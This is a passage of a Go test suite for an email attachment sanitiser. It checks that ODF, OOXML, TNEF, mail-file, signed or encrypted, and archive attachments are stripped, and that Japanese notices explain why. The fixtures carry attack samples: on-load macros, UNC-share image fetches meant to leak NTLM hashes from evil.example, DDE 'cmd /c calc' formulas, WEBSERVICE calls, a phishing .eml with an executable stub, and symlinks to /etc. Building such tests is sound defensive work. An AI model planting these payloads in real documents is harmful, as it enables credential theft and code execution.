		{"old calendar .vcs", attached{"invite.vcs", "text/plain", []byte(folded)}, DecisionStrip},
		{"calendar text as .txt", attached{"invite.txt", "text/plain", []byte(folded)}, DecisionKeep},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".txt", ".ics", ".vcf", ".vcs"}}}
			rep, out := rebuilt(t, withAttachments(tt.file), pol)
			p := rep.Parts[1]
			if p.Decision != tt.decision {
				t.Errorf("%s: %s (%s), want %s", p.Filename, p.Decision, p.Reason, tt.decision)
			}
			if tt.decision == DecisionStrip {
				reason, jp := calendarSummaryReason, "予定表のファイルで、"
				if strings.HasSuffix(tt.file.name, ".vcf") {
					reason, jp = calendarReason, "予定表や連絡先のファイルで、"
				}
				if p.Reason != reason {
					t.Errorf("reason %q, want %q", p.Reason, reason)
				}
				text := decodedText(t, out)
				if !strings.Contains(text, jp) {
					t.Errorf("notice does not say why:\n%s", text)
				}
				if summary := strings.Contains(text, "件名 / Summary: 会議\n"); summary != (reason == calendarSummaryReason) {
					t.Errorf("events written in the text: %v, want %v:\n%s", summary, !summary, text)
				}
				if strings.Contains(text, "evil") || strings.Contains(text, "TVqQ") {
					t.Errorf("description or attachment written:\n%s", text)
				}
			}
		})
	}
}

// odtOf is an OpenDocument text whose office:text holds body, with
// extra members (name, data, ...) after the parts LibreOffice writes.
func odtOf(t *testing.T, body string, extra ...string) []byte {
	const ns = `xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"`
	files := append([]string{
		"mimetype", "application/vnd.oasis.opendocument.text",
		"META-INF/manifest.xml", `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`,
		"content.xml", `<?xml version="1.0" encoding="UTF-8"?><office:document-content ` + ns + ` office:version="1.3"><office:scripts/><office:body><office:text>` + body + `</office:text></office:body></office:document-content>`,
		"meta.xml", `<?xml version="1.0" encoding="UTF-8"?><office:document-meta ` + ns + `><office:meta><meta:generator>LibreOffice/7.6</meta:generator></office:meta></office:document-meta>`,
	}, extra...)
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i+1 < len(files); i += 2 {
		method := zip.Deflate
		if files[i] == "mimetype" {
			method = zip.Store // first and stored, as ODF 1.2 part 3, 3.3 says
		}
		w, err := z.CreateHeader(&zip.FileHeader{Name: files[i], Method: method})
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(files[i+1]))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestODFKept: a clean OpenDocument file is kept by a rule listing it,
// attached or in a kept archive, its web links counted as a kept
// Office document's are; mugai reads its XML for what it runs and
// fetches (TestODFNotKept).
func TestODFKept(t *testing.T) {
	odt := odtOf(t, `<text:p>議事録 <text:a xlink:type="simple" xlink:href="https://www.city.example.lg.jp/">市</text:a> <text:a xlink:href="#__RefHeading___Toc1">目次</text:a></text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame>`,
		"Pictures/a.png", "\x89PNG\r\n\x1a\n")
	pol := defaultPolicy(t)
	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".odt", ".zip"}}}
	var zb bytes.Buffer
	z := zip.NewWriter(&zb)
	w, _ := z.Create("資料/案内.odt")
	w.Write(odt)
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	for _, file := range []attached{
		{"案内.odt", "application/vnd.oasis.opendocument.text", odt},
		{"資料.zip", "application/zip", zb.Bytes()},
	} {
		rep, out := rebuilt(t, withAttachments(file), pol)
		if p := rep.Parts[1]; p.Decision != DecisionKeep || p.Reason != "allowed by a keep rule; 1 link left clickable" {
			t.Errorf("%s: %s (%s), want kept with its one web link counted", file.name, p.Decision, p.Reason)
		}
		if text := decodedText(t, out); !strings.Contains(text, "リンクはクリックできる形のままです") {
			t.Errorf("%s: notice does not name the link left clickable:\n%s", file.name, text)
		}
	}
}

// TestODFNotKept: an OpenDocument file that runs a macro or a program,
// loads content from outside itself (red team: an ODT running an
// installed macro on load, an image from \\evil\s: the NTLM hash) or
// links to a share, or whose XML cannot be read, is not kept by a rule
// listing it, attached or in an archive, and the notice says why.
func TestODFNotKept(t *testing.T) {
	pol := defaultPolicy(t)
	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".odt", ".zip"}}}
	const (
		macros = "マクロを含む文書のため"
		linked = "開いたときや再計算のときに、文書の外（ファイル・共有フォルダ・Web・データベース・他のプログラム）から内容を読み込む指定を含む文書のため"
	)
	for _, tt := range []struct {
		name     string
		odt      []byte
		reason   string
		jpReason string
	}{
		{"macro on load", odtOf(t, `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/></office:event-listeners>`),
			"office document with macros", macros},
		{"Basic library of a subdocument", odtOf(t, "", "Object 1/Basic/Standard/Module1.xml", `<script:module/>`), "office document with macros", macros},
		{"image on a share", odtOf(t, `<draw:frame><draw:image xlink:href="\\evil.example\s\a.png" xlink:actuate="onLoad"/></draw:frame>`),
			linkedContentReason, linked},
		{"SVG picture drawing an image from a share", odtOf(t, `<draw:frame><draw:image xlink:href="Pictures/1.svg"/></draw:frame>`,
			"Pictures/1.svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" height="9" xlink:href="file://evil.example/s/a.png"/></svg>`),
			linkedContentReason, linked},
		{"button image from a share, as a property", odtOf(t, `<office:forms xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"><form:form><form:button form:id="b"><form:properties><form:property form:property-name="ImageURL" office:value-type="string" office:string-value="file://evil.example/s/a.png"/></form:properties></form:button></form:form></office:forms>`),
			linkedContentReason, linked},
		{"shortcut opening a share", odtOf(t, "", "Configurations2/accelerator/current.xml", `<accel:acceleratorlist xmlns:accel="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item accel:code="KEY_S" accel:mod1="true" xlink:href=".uno:Open?URL:string=file://evil.example/s/x.odt"/></accel:acceleratorlist>`),
			linkedContentReason, linked},
		{"remote template", odtOf(t, "", "meta.xml", `<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta><meta:template xlink:href="http://evil.example/t.ott"/></office:meta></office:document-meta>`),
			linkedContentReason, linked},
		{"DDE", odtOf(t, `<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>`),
			linkedContentReason, linked},
		{"WEBSERVICE", odtOf(t, `<table:table><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/></table:table-row></table:table>`),
			linkedContentReason, linked},
		{"DDE in Excel's grammar", odtOf(t, `<table:table xmlns:msoxl="http://schemas.microsoft.com/office/excel/formula"><table:table-row><table:table-cell table:formula="msoxl:=cmd|' /c calc'!A1"/></table:table-row></table:table>`),
			runningFormulaReason, "開くと他のプログラムを動かしたり、Webや共有フォルダ、他のブックからデータを取り込んだりする数式（DDE、WEBSERVICEなど）を含むブックのため"},
		{"hyperlink to a share", odtOf(t, `<text:p><text:a xlink:href="\\evil\s\x.odt">x</text:a></text:p>`),
			"document links to a network share (UNC path)", "共有フォルダへのリンク（UNCパス）を含む文書のため"},
		{"content not XML", odtOf(t, `<text:p>`), "document could not be fully inspected", "文書を検査しきれないため"},
	} {
		var zb bytes.Buffer
		z := zip.NewWriter(&zb)
		w, _ := z.Create("案内.odt")
		w.Write(tt.odt)
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
		for _, file := range []attached{
			{"案内.odt", "application/vnd.oasis.opendocument.text", tt.odt},
			{"資料.zip", "application/zip", zb.Bytes()},
		} {
			rep, out := rebuilt(t, withAttachments(file), pol)
			if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != tt.reason {
				t.Errorf("%s, %s: %s (%s), want stripped: %s", tt.name, file.name, p.Decision, p.Reason, tt.reason)
			}
			if text := decodedText(t, out); !strings.Contains(text, tt.jpReason) {
				t.Errorf("%s, %s: notice does not say %s:\n%s", tt.name, file.name, tt.jpReason, text)
			}
		}
	}
}

// TestODFWithContentTypesNotKept: an OpenDocument file that is also an
// OOXML package is read as OOXML, not as ODF; LibreOffice may open it as
// the ODF file its mimetype says, macros and all (red team: a rule
// keeping .odt or .docx by name kept one running a macro on load; with
// a clean Word document beside it, one named .docx was a docx fit to
// keep). Under any name it is not inspected, so not kept.
func TestODFWithContentTypesNotKept(t *testing.T) {
	const onLoad = `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/></office:event-listeners>`
	odt := odtOf(t, onLoad,
		"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`)
	// A clean Word document as well, which Word opens: without the
	// polyglot finding it is a docx fit to keep.
	both := odtOf(t, onLoad,
		"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
		"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
		"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>案内</w:t></w:r></w:p></w:body></w:document>`)
	for _, c := range []struct {
		name string
		data []byte
	}{{"案内.odt", odt}, {"案内.docx", odt}, {"案内.docx", both}, {"案内.odt", both}} {
		name := c.name
		pol := defaultPolicy(t)
		pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{extension(name)}}}
		rep, _ := rebuilt(t, withAttachments(attached{name, "application/octet-stream", c.data}), pol)
		// Also an OOXML package, which LibreOffice may open as ODF and
		// Word as OOXML: not inspected, whatever its name.
		want := "document could not be fully inspected"
		if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != want {
			t.Errorf("%s: %s (%s), want stripped: %s", name, p.Decision, p.Reason, want)
		}
	}
}

// TestKeptOfficeLinks: the web links of a kept Word document (hyperlink
// relationships and HYPERLINK fields) stay clickable, as a kept PDF's do,
// and are counted and named in the notice the same way; each target
// once.
func TestKeptOfficeLinks(t *testing.T) {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, f := range [][2]string{
		{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`},
		{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://www.city.example.lg.jp/b&quot; "><w:r><w:t>b</w:t></w:r></w:fldSimple><w:fldSimple w:instr=" HYPERLINK &quot;https://www.city.example.lg.jp/a&quot; "/></w:p></w:body></w:document>`},
		{"word/_rels/document.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.city.example.lg.jp/a" TargetMode="External"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`},
	} {
		w, err := z.Create(f[0])
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(f[1]))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	pol := defaultPolicy(t)
	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".docx"}}}
	rep, out := rebuilt(t, withAttachments(attached{"案内.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", b.Bytes()}), pol)
	if p := rep.Parts[1]; p.Decision != DecisionKeep || p.Reason != "allowed by a keep rule; 2 links left clickable" {
		t.Errorf("%s: %s (%s), want kept with 2 links left clickable", p.Filename, p.Decision, p.Reason)
	}
	if text := decodedText(t, out); !strings.Contains(text, "リンクはクリックできる形のままです") || !strings.Contains(text, "… リンク 2件") {
		t.Errorf("notice does not name the links left clickable:\n%s", text)
	}
}

// TestKeptDocxByMainPart: a rule keeping .docx (by extension alone)
// keeps a Word document only when mugai read it as Word does: by the
// main part _rels/.rels names and the part types [Content_Types].xml
// gives. A document whose main part is x/main.xml, holding a field that
// fetches a picture from a share, was kept as a generic OOXML package
// with no finding (red team: Word sent the share the user's NTLM hash);
// one whose main part or part types cannot be told is not kept either.
func TestKeptDocxByMainPart(t *testing.T) {
	const (
		wordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
		types    = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/x/main.xml" ContentType="` + wordMain + `"/></Types>`
		field    = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:fldSimple w:instr=' INCLUDEPICTURE "\\192.0.2.1\s\a.png" \d '/></w:p></w:body></w:document>`
		clean    = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>案内</w:t></w:r></w:p></w:body></w:document>`
	)
	rels := func(target string) string {
		return `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="` + target + `"/></Relationships>`
	}
	pkg := func(parts ...[2]string) []byte { return officePackage(t, parts...) }
	const (
		docxType   = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
		embedded   = "スクリプトや埋め込みファイルを含む文書のため"
		notChecked = "文書を検査しきれないため"
	)
	for _, tt := range []struct {
		name, decision, reason, notice string
		docx                           []byte
	}{
		{"renamed main part with INCLUDEPICTURE", DecisionStrip, "document with active or embedded content", embedded,
			pkg([2]string{"[Content_Types].xml", types}, [2]string{"_rels/.rels", rels("x/main.xml")}, [2]string{"x/main.xml", field})},
		{"decoy word/document.xml", DecisionStrip, "document with active or embedded content", embedded,
			pkg([2]string{"[Content_Types].xml", types}, [2]string{"_rels/.rels", rels("x/main.xml")}, [2]string{"word/document.xml", clean}, [2]string{"x/main.xml", field})},
		{"missing main part", DecisionStrip, "document could not be fully inspected", notChecked,
			pkg([2]string{"[Content_Types].xml", types}, [2]string{"_rels/.rels", rels("x/gone.xml")}, [2]string{"x/main.xml", clean})},
		{"content types with a DTD", DecisionStrip, "document could not be fully inspected", notChecked,
			pkg([2]string{"[Content_Types].xml", `<!DOCTYPE Types [<!ENTITY m "` + wordMain + `">]>` + strings.Replace(types, wordMain, "&m;", 1)}, [2]string{"_rels/.rels", rels("x/main.xml")}, [2]string{"x/main.xml", clean})},
		{"renamed main part, clean", DecisionKeep, "allowed by a keep rule", "そのまま添付しています",
			pkg([2]string{"[Content_Types].xml", types}, [2]string{"_rels/.rels", rels("x/main.xml")}, [2]string{"x/main.xml", clean})},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".docx"}}}
			rep, out := rebuilt(t, withAttachments(attached{"案内.docx", docxType, tt.docx}), pol)
			p := rep.Parts[1]
			if p.Decision != tt.decision || p.Reason != tt.reason {
				t.Errorf("%s: %s (%s), want %s (%s); findings %+v", p.Filename, p.Decision, p.Reason, tt.decision, tt.reason, rep.Findings)
			}
			if p.Decision == DecisionKeep && p.SniffedType != docxType {
				t.Errorf("%s kept as %s, want read as %s", p.Filename, p.SniffedType, docxType)
			}
			if text := decodedText(t, out); !strings.Contains(text, tt.notice) {
				t.Errorf("notice does not say %q:\n%s", tt.notice, text)
			}
		})
	}
}

// TestTNEFByContent: TNEF is never delivered, whatever its name and
// declared type: the classifier knows it by its signature, and kept it
// was written as the application/ms-tnef it sniffs as, which Outlook
// unpacks with the files inside it (red team, a policy keeping
// attachments by default).
func TestTNEFByContent(t *testing.T) {
	tnef := append([]byte("\x78\x9f\x3e\x22\x01\x00\x01\x06\x90\x08\x00\x04\x00\x00\x00\x00\x00\x01\x00\x01\x00"), make([]byte, 200)...)
	for _, f := range []attached{
		{"data.bin", "application/octet-stream", tnef},
		{"report.dat", "application/octet-stream", tnef},
		{"winmail.dat", "application/octet-stream", tnef},
		{"notes.txt", "text/plain", tnef},
	} {
		t.Run(f.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Default = "keep"
			rep, out := rebuilt(t, withAttachments(f), pol)
			p := rep.Parts[1]
			if p.Decision != DecisionStrip || p.Reason != "TNEF (winmail.dat) is never delivered" {
				t.Errorf("%s (sniffed %s): %s (%s), want it stripped as TNEF", p.Filename, p.SniffedType, p.Decision, p.Reason)
			}
			if text := decodedText(t, out); !strings.Contains(text, "リッチテキスト形式（TNEF、winmail.dat）で、中の添付ファイルを取り出して検査できないため") {
				t.Errorf("notice does not say why:\n%s", text)
			}
		})
	}
}

// TestMailFileNotKept: a mail message saved as a file (.eml, Outlook's
// .msg, an S/MIME .p7m) opens in the mail client as the message it is,
// its HTML rendered and its attachments offered, none of them sanitised:
// a policy keeping attachments by default delivered an .eml whose
// base64 HTML linked to a phishing page beside a setup.exe (red team).
// No rule keeps one; the same bytes named .txt open as text.
func TestMailFileNotKept(t *testing.T) {
	eml := []byte("From: bank@example.jp\r\nSubject: invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n" +
		"--zz\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString([]byte(`<a href="https://evil.example/login">ログイン</a>`)) + "\r\n" +
		"--zz\r\nContent-Type: application/octet-stream; name=setup.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString(append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 100)...)) + "\r\n--zz--\r\n")
	for _, tt := range []struct {
		file     attached
		decision string
	}{
		{attached{"invoice.eml", "application/octet-stream", eml}, DecisionStrip},
		{attached{"invoice.eml", "text/plain", eml}, DecisionStrip},
		{attached{"invoice.emlx", "application/octet-stream", eml}, DecisionStrip},
		{attached{"item.msg", "application/vnd.ms-outlook", []byte("not really OLE")}, DecisionStrip},
		{attached{"template.oft", "application/octet-stream", []byte("not really OLE")}, DecisionStrip},
		{attached{"invoice.txt", "text/plain", eml}, DecisionKeep},
	} {
		t.Run(tt.file.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Default = "keep"
			rep, out := rebuilt(t, withAttachments(tt.file), pol)
			p := rep.Parts[1]
			if p.Decision != tt.decision {
				t.Errorf("%s (sniffed %s): %s (%s), want %s", p.Filename, p.SniffedType, p.Decision, p.Reason, tt.decision)
			}
			if tt.decision == DecisionStrip {
				if p.Reason != mailFileReason {
					t.Errorf("reason %q, want %q", p.Reason, mailFileReason)
				}
				if text := decodedText(t, out); !strings.Contains(text, "メールのファイル") {
					t.Errorf("notice does not say why:\n%s", text)
				}
			}
		})
	}
}

// TestSignedAndEncryptedMail: the parts of S/MIME and PGP/MIME messages
// are named for what they are (a review of real-world shapes found an
// encrypted message described as "a mail file whose HTML is shown
// unsanitised", its PGP parts as "types the policy does not allow", and a
// signature likewise), the reader of an encrypted message is told that
// its text is inside it, and armoured PGP text is no type mismatch.
func TestSignedAndEncryptedMail(t *testing.T) {
	const der = "0\x82\x01\x00\x06\x09*\x86H\x86\xf7\x0d\x01\x07\x03"
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	head := "From: a@example.jp\r\nTo: b@example.lg.jp\r\nSubject: s\r\nMIME-Version: 1.0\r\n"
	for _, tt := range []struct {
		name, msg string
		reasons   []string // of the parts after the text, or of every part when there is none
		notice    []string
		withheld  bool
	}{
		{"S/MIME signed", head + "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=s\r\n\r\n" +
			"--s\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n会議の件です。\r\n--s\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n" +
			"Content-Transfer-Encoding: base64\r\n\r\n" + b64(der) + "\r\n--s--\r\n",
			[]string{signatureReason}, []string{"smime.p7s", "電子署名のため", "会議の件です。"}, false},
		{"S/MIME encrypted", head + "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(der) + "\r\n",
			[]string{encryptedMailReason}, []string{"暗号化されたメール（S/MIME・PGP）で、中身を検査できない", "本文は表示していません"}, true},
		{"S/MIME opaque-signed", head + "Content-Type: application/x-pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(der) + "\r\n",
			[]string{opaqueSignedReason}, []string{"署名や暗号と一体になった形（S/MIME）", "本文は表示していません"}, true},
		{"PGP/MIME encrypted", head + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n" +
			"--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" +
			"-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0cM\r\n-----END PGP MESSAGE-----\r\n--e--\r\n",
			[]string{pgpControlReason, encryptedMailReason}, []string{"暗号化されたメールの制御情報", "encrypted.asc", "本文は表示していません"}, true},
		{"PGP/MIME signed", head + "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; boundary=s\r\n\r\n" +
			"--s\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n会議の件です。\r\n--s\r\nContent-Type: application/octet-stream; name=signature.asc\r\n\r\n" +
			"-----BEGIN PGP SIGNATURE-----\r\n\r\niQEz\r\n-----END PGP SIGNATURE-----\r\n--s--\r\n",
			[]string{signatureReason}, []string{"signature.asc", "電子署名のため", "会議の件です。"}, false},
		{"an S/MIME file attached", withAttachments(attached{"smime.p7m", "application/octet-stream", []byte(der)}),
			[]string{smimeReason}, []string{"smime.p7m (15 B)"}, false},
		{"a program named like a signature", withAttachments(attached{"smime.p7s", "application/pkcs7-signature", append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 100)...)}),
			[]string{"executable or script"}, []string{"実行ファイル"}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Default = "keep" // none of them is kept all the same
			rep, out := rebuilt(t, tt.msg, pol)
			var reasons []string
			for _, p := range rep.Parts {
				if p.Decision != DecisionBody {
					reasons = append(reasons, p.Reason)
				}
			}
			if !slices.Equal(reasons, tt.reasons) {
				t.Errorf("reasons %q, want %q", reasons, tt.reasons)
			}
			for _, f := range rep.Findings {
				if f.Kind == "type-mismatch" && !strings.HasPrefix(tt.name, "a program") {
					t.Errorf("finding %+v", f)
				}
			}
			text := decodedText(t, out)
			for _, w := range tt.notice {
				if !strings.Contains(text, w) {
					t.Errorf("text lacks %q:\n%s", w, text)
				}
			}
			if got := strings.Contains(text, "本文は表示していません"); got != tt.withheld {
				t.Errorf("withheld line: %v, want %v:\n%s", got, tt.withheld, text)
			}
		})
	}
}

// TestArchiveMessageEntryNotice: a ZIP holding a mail message file is not
// kept by a rule that keeps ZIPs, and the notice says why (red team).
func TestArchiveMessageEntryNotice(t *testing.T) {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	w, _ := zw.Create("mail/invoice.eml")
	w.Write([]byte("From: a@example.jp\r\nSubject: x\r\n\r\nhello\r\n"))
	zw.Close()
	pol := defaultPolicy(t)
	pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".zip"}, Types: []string{"application/zip"}}}
	rep, out := rebuilt(t, withAttachments(attached{"mail.zip", "application/zip", b.Bytes()}), pol)
	if p := rep.Parts[1]; p.Decision != DecisionStrip || p.Reason != messageEntryReason {
		t.Errorf("%s: %s (%s), want strip (%s)", p.Filename, p.Decision, p.Reason, messageEntryReason)
	}
	if text := decodedText(t, out); !strings.Contains(text, "圧縮ファイル内に、メール・予定表・連絡先のファイル") {
		t.Errorf("notice does not say why:\n%s", text)
	}
}

// TestArchiveLinkNotice: an archive holding a link (a ZIP symlink, a tar
// symlink or hard link, also in a nested archive) is not kept by a rule
// that keeps it, and the notice says why in words the link rewriting
// leaves as they are; a link to a file beside it is no exception.
func TestArchiveLinkNotice(t *testing.T) {
	zipOf := func(name string, mode uint32, data []byte) []byte {
		var b bytes.Buffer
		zw := zip.NewWriter(&b)
		fh := &zip.FileHeader{Name: name, Method: zip.Deflate, CreatorVersion: 3 << 8, ExternalAttrs: mode << 16}
		w, err := zw.CreateHeader(fh)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(data)
		zw.Close()
		return b.Bytes()
	}
	tarOf := func(typ byte, link string) []byte {
		var b bytes.Buffer
		tw := tar.NewWriter(&b)
		if err := tw.WriteHeader(&tar.Header{Name: "docs", Linkname: link, Typeflag: typ, Mode: 0o644}); err != nil {
			t.Fatal(err)
		}
		tw.Close()
		return b.Bytes()
	}
	const jp = "圧縮ファイル内にリンク（シンボリックリンク・ハードリンク）があり、展開すると展開先のフォルダの外に書き込まれるおそれがあるため"
	for _, tt := range []struct {
		name, file, ctype string
		data              []byte
		reason            string
	}{
		{"zip symlink", "a.zip", "application/zip", zipOf("docs", 0o120777, []byte("README")), linkEntryReason},
		{"zip symlink in a zip", "a.zip", "application/zip", zipOf("in.zip", 0o100644, zipOf("s", 0o120777, []byte("/etc"))), linkEntryReason},
		{"tar symlink", "a.tar", "application/x-tar", tarOf(tar.TypeSymlink, "/etc"), linkEntryReason},
		{"tar hard link", "a.tar", "application/x-tar", tarOf(tar.TypeLink, "README"), linkEntryReason},
		{"zip file", "a.zip", "application/zip", zipOf("docs.txt", 0o100644, []byte("README")), "allowed by a keep rule"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".zip", ".tar"}, Types: []string{"application/zip", "application/x-tar"}},
				{Extensions: []string{".txt"}, Types: []string{"text/plain"}}}
			rep, out := rebuilt(t, withAttachments(attached{tt.file, tt.ctype, tt.data}), pol)
			if p := rep.Parts[1]; p.Reason != tt.reason {
				t.Errorf("%s: %s (%s), want %q; findings %+v", p.Filename, p.Decision, p.Reason, tt.reason, rep.Findings)
			}
			if text := decodedText(t, out); strings.Contains(text, jp) != (tt.reason == linkEntryReason) {
				t.Errorf("notice, for %q:\n%s", tt.reason, text)
			}
		})
	}
	if got, _ := rewriteLinks(jp, "defang"); got != jp {
		t.Errorf("%q: rewritten as %q", jp, got)
	}
}

// TestKeptWorkbookFormulas: a workbook kept by a rule is read for its
// formulas. One that runs a program or fetches from elsewhere (DDE,
// WEBSERVICE, another workbook on a share) is not kept, and the notice
// says why; a HYPERLINK to a share is refused as a hyperlink is, one to
// the web is counted as left clickable, and one whose target is computed
// from a cell cannot be checked.
func TestKeptWorkbookFormulas(t *testing.T) {
	workbook := func(formula string) []byte {
		var f strings.Builder
		xml.EscapeText(&f, []byte(formula))
		var b bytes.Buffer
		z := zip.NewWriter(&b)
		for _, p := range [][2]string{
			{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`},
			{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>`},
			{"xl/worksheets/sheet1.xml", `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>` + f.String() + `</f></c></row></sheetData></worksheet>`},
		} {
			w, err := z.Create(p[0])
			if err != nil {
				t.Fatal(err)
			}
			w.Write([]byte(p[1]))
		}
		if err := z.Close(); err != nil {
			t.Fatal(err)
		}
